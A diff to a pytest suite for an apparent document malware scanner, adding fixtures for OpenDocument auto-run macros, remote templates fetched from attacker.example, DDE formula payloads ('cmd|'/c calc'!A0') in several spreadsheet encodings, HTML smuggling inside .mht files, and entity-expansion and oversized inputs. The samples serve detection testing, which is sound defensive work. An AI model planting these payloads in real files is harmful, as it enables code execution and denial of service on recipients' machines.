@@ -8,6 +8,7 @@ import io
 import struct
 import time
 import zlib
+from collections.abc import Mapping
 
 import pikepdf
 import pytest
@@ -304,6 +305,9 @@ def of_page(entry: str, action: pikepdf.Dictionary) -> bytes:
     return saved.getvalue()
 
 
+TEMPLATED = files.docx(parts={RELS: files.relation("attachedTemplate", "https://attacker.example/t.dotm")})
+
+
 OFFICE += [
     *[
         (f"{part} as project.docm", files.docx(parts={part: PROJECT}), RUNS_BY_ITSELF)
@@ -469,6 +473,51 @@ PAGES += [
     ),
 ]
 
+ODF = "urn:oasis:names:tc:opendocument:xmlns"
+
+
+def odf_source(content: str) -> str:
+    """Give an OpenDocument document in XML with the usual prefixes."""
+    spaces = f"xmlns='{ODF}:office:1.0' xmlns:s='{ODF}:script:1.0' xmlns:w='{ODF}:drawing:1.0' xmlns:x='http://www.w3.org/1999/xlink'"
+    return f"<d {spaces}>{content}</d>"
+
+
+def odf(content: str = "", parts: Mapping[str, bytes | str] | None = None) -> bytes:
+    """Give an OpenDocument text."""
+    named = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": odf_source(content)}
+    return files.archive({**named, **(parts or {})}, stored=True)
+
+
+MODULE = "<s:module s:name='Module1'>Sub Main</s:module>"
+LOADED = "<s:event-listener s:event-name='dom:load' x:href='vnd.sun.star.script:S.M.Main?language=Basic'/>"
+FOREIGN = "<w:object x:href='https://attacker.example/a.ods'/>"
+CALL = "cmd|'/c calc'!A0"
+SPREADSHEET = (
+    "<?xml version='1.0'?><?mso-application progid='Excel.Sheet'?><Workbook><Cell ss:Formula=\"="
+    + CALL
+    + '"/></Workbook>'
+)
+
+OFFICE += [
+    ("module.odt", odf(parts={"Pictures/a.png": f"<d xmlns:s='{ODF}:script:1.0'>{MODULE}</d>"}), {"macro"}),
+    ("single quotes.odt", odf(LOADED), {"autoopen"}),
+    ("object.odt", odf(FOREIGN), {"remote-object"}),
+    ("locked.odt", odf(parts={"META-INF/manifest.xml": "<m:manifest xmlns:m='m'><m:encryption-data/></m:manifest>"}), {"encrypted"}),
+    ("flat.fodt", f"<?xml version='1.0'?>{odf_source(LOADED + MODULE)}".encode(), {"autoopen", "macro"}),
+    ("lost directory.docx", TEMPLATED[: TEMPLATED.rindex(b"PK\1\2")], {"template", "damaged"}),
+    ("lost end.docx", TEMPLATED[:-30], {"template", "damaged"}),
+    ("own network.docx", files.docx(parts={RELS: files.relation("attachedTemplate", "file:///\\\\srv01\\letters\\a.dotx")}), {"external"}),
+    ("own domain.docx", files.docx(parts={RELS: files.relation("attachedTemplate", "file://files.example.local/a.dotx")}), {"external"}),
+    ("number.docx", files.docx(parts={RELS: files.relation("attachedTemplate", "\\\\3221225985\\a.dotx")}), {"template"}),
+    ("port.docx", files.docx(parts={RELS: files.relation("attachedTemplate", "\\\\attacker@80\\a.dotx")}), {"template"}),
+    ("own network.rtf", files.rtf(r"{\*\template \\\\srv01\\letters\\a.dot}"), {"external"}),
+    ("own network.pdf", of_page("/AA", files.action("URI", URI="file://srv01/letters/a.pdf")), {"external"}),
+    ("page.xls", f"<html><table><tr><td>={CALL}</td></tr></table></html>".encode(), {"dde"}),
+    ("attribute.xls", f'<html><table><tr><td x:fmla="={CALL}">1</td></tr></table></html>'.encode(), {"dde"}),
+    ("entities.xls", f"<html><table><tr><td>&#61;{CALL.replace('|', '&#124;')}</td></tr></table></html>".encode(), {"dde"}),
+    ("sheet of xml.xls", SPREADSHEET.encode(), {"dde"}),
+]  # fmt: skip
+
 SMUGGLED = files.smuggling_page(archives.zipped({"a.exe": files.PROGRAM})).removeprefix(b"<!DOCTYPE html>")
 URL = b"[InternetShortcut]\r\nURL=file://192.0.2.1/a.exe\r\n"
 DISGUISED = [
@@ -586,6 +635,8 @@ HONEST = [
     ("says dde.docx", files.docx(parts={"word/header1.xml": "<w:p><w:instrText> PAGE </w:instrText><w:t>DDE is old</w:t>"})),
     ("pipes.csv", b"name|sum!\r\n-5|yes! no\r\n-x | 'quoted' | y\r\n"),
     ("local.pdf", files.pdf({"/AA": pikepdf.Dictionary(WC=files.action("URI", URI="file:///C:/a.txt"))})),
+    ("macro lists.odt", odf(parts={"Basic/Standard/script-lb.xml": "<l:library xmlns:l='l'/>", "ObjectReplacements/Object 1": b"VCLMTF", "layout-cache": b"\0\1"})),
+    ("table of pipes.xls", b"<html><table><tr><td>a|b</td><td>-5 | yes!</td></tr></table></html>"),
     ("packed shapes.ppt", presentation(zlib.compress(compound({"Contents": b"x"})))),
 ]  # fmt: skip
 
@@ -716,6 +767,35 @@ def test_files_inside_are_given_out(name: str, data: bytes, kind: Kind) -> None:
     assert kind in {kind_of(member.content, member.name) for member in look(name, data).members}
 
 
+PAGE = (
+    b"From: a@b.example\r\nSubject: x\r\nContent-Type: multipart/related; boundary=q\r\n\r\n--q\r\nContent-Type: text/html\r\n\r\n"
+    + files.smuggling_page(archives.zipped({"a.exe": files.PROGRAM}))
+    + b"\r\n--q--\r\n"
+)
+
+
+def test_the_pages_of_a_saved_page_are_looked_into() -> None:
+    """A browser opens the pages in an .mht with their scripts, so that they are looked into as pages; a mail client does not."""
+    assert "smuggled" in deep("page.mht", PAGE)
+    assert "smuggled" not in deep("letter.eml", PAGE.replace(b"related", b"mixed"))
+
+
+def test_what_nobody_else_can_unpack_is_marked_unseen() -> None:
+    """Decrypted documents and what lies packed in a presentation are for the scanner, whatever kind is around them."""
+    for name, data in (
+        ("a.docx", files.encrypted_docx("infected")),
+        ("a.ppt", presentation(zlib.compress(files.doc({"Contents": b"x"})))),
+    ):
+        assert [member.unseen for member in look(name, data).members] == [True]
+
+
+def test_a_mailbox_gives_each_message() -> None:
+    """The messages of an mbox are opened one by one, and more of them than are opened are told."""
+    letter = b"From a@b.example Thu Nov 26 10:00:00 2026\nSubject: x\nFrom: a@b.example\n\nhello\n\n"
+    assert [member.content.count(b"Subject") for member in look("a.mbox", letter * 4).members] == [1, 1, 1]
+    assert "limit" in words(look("a.mbox", letter * (file_limits.FILE_MEMBERS + 5)))
+
+
 HEADS = [magic for magic, _ in MAGIC] + [
     b"PK\3\4",
     b"<html><script>",
@@ -784,6 +864,9 @@ SLOW = [
     ("groups.rtf", b"{\\rtf1{\\fldinst " + b"{}" * 300_000),
     ("entities.svg", b"<!DOCTYPE svg [<!ENTITY a0 'aaaa<b/>'>" + b"".join(b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 9)) + b"]><svg>&a8;</svg>"),
     ("storages.ppt", presentation(zlib.compress(b"\0" * 1_000_000) + (struct.pack("<HHII", 0x10, 0x1011, 9, 1) + zlib.compress(b"\0" * 1_000_000)) * 300)),
+    ("values.ics", b"BEGIN:VCALENDAR\r\n" + b"data:;base64," * 300_000),
+    ("lines.mbox", b"From a\nFrom: a\nTo: b\n\n" + b"\nFrom " * 1_000_000),
+    ("headers.docx", b"PK\3\4\x14\0\0\0\0\0[Content_Types].xml" + b"PK\3\4" * 2_000_000),
     ("files.ics", b"BEGIN:VCALENDAR\r\n" + b"A;ENCODING=B:AA\r\n" * 100_000),
 ]  # fmt: skip
 
